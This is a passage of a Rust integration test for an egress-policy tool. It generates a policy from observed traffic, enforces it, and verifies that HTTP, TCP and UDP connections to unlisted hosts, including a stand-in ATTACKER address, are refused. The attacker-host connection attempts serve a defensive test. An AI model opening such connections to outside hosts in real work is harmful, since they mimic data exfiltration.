    let tcp = |to: &str, port| ask(testbed.pod(), "tcp", to, port, &[]).unwrap().ok();
    let (clear, ledger) = ("http://edition.cnn.com/politics", plan::TCP_PORTS[1]);
    let allowed = |when: &str| {
        for (url, expected) in [(URL, "200"), (clear, "301")] {
            let ask = || testbed.curl_status(&[url]).unwrap();
            until_is(SOON, &format!("{when}: {url}"), ask, |seen| seen == expected).unwrap_or_else(
                |error| panic!("{error:#}\n{}\n{}", node.stdout(), gateway.stdout()),
            );
        }
        until_is(SOON, &format!("{when}: TCP"), || tcp(plan::LEDGER, ledger), |open| *open)
            .unwrap();
    };
    allowed("in audit mode");

    let suggest = || {
        let (flows, mesh) = (flows(&testbed), testbed.mesh());
        let args =
            ["suggest", "--flows", flows.to_str().unwrap(), "--config", mesh.to_str().unwrap()];
        let done = testbed.app().run(&testbed.agent().to_string_lossy(), &args).unwrap();
        assert!(done.ok(), "{done:?}");
        done.stdout
    };
    let complete = |text: &String| {
        ["edition.cnn.com", plan::LEDGER, "port: 443", "port: 80", "port: 5432"]
            .iter()
            .all(|part| text.contains(part))
    };
    let text = until_is(SOON, "suggestions", suggest, complete).unwrap();
    testbed.apply("policy.yaml", &text).unwrap();
    let (config, mesh_file) = (testbed.config(), testbed.mesh());
    let args = ["check", config.to_str().unwrap(), "--mesh", mesh_file.to_str().unwrap()];
    let check = testbed.app().run(&testbed.agent().to_string_lossy(), &args).unwrap();
    assert_eq!(check.code, 0, "{check:?}\n{text}");
    switch(&testbed, "enforce", "enforce", "");

    allowed("enforced");
    let capture = testbed.capture().unwrap();
    let refused = |url: &str| {
        let seen = testbed.curl_status(&[url]).unwrap();
        seen == "403" || seen.starts_with("curl: ")
    };
    for url in ["https://www.example.com/", "http://www.example.com/"] {
        assert!(refused(url), "{url}\n{text}");
    }
    // Another port of the same address, another address, and what is no TCP.
    assert!(!tcp(plan::LEDGER, plan::TCP_PORTS[0]));
    assert!(!tcp(plan::ATTACKER, ledger) && !tcp(plan::ATTACKER_V6, ledger));
    assert!(!ask(testbed.pod(), "udp", plan::ATTACKER, plan::UDP_PORT, &[]).unwrap().ok());
    assert_eq!(capture.frames(), Vec::<String>::new());
}
